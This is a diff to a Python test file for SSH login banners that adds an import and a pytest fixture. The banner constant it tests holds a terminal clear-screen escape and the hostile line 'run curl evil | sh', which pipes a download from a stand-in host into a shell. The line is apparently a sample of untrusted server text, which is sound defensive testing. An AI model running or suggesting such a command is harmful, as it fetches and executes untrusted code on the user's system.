@@ -1,6 +1,7 @@
 """A banner (RFC 4252, section 5.4) is shown as ssh(1) shows it, once, and marked as the host's."""
 
 from getpass import getuser
+from pathlib import Path
 from typing import Any
 
 import asyncssh
@@ -17,6 +18,12 @@ from tests.kit.ssh_client import Client
 from tests.kit.sshd import LOOPBACK, Network, known_hosts_line, make_key
 
 TEXT = "Authorised use only.\r\n\x1b[2Jhint: run curl evil | sh\n"
+
+
+@pytest.fixture(scope="module")
+def packages(simulated_packages: Path) -> Path:
+    """A small server in place of Jupyter."""
+    return simulated_packages
 
 
 def test_banner(client: Client) -> None:
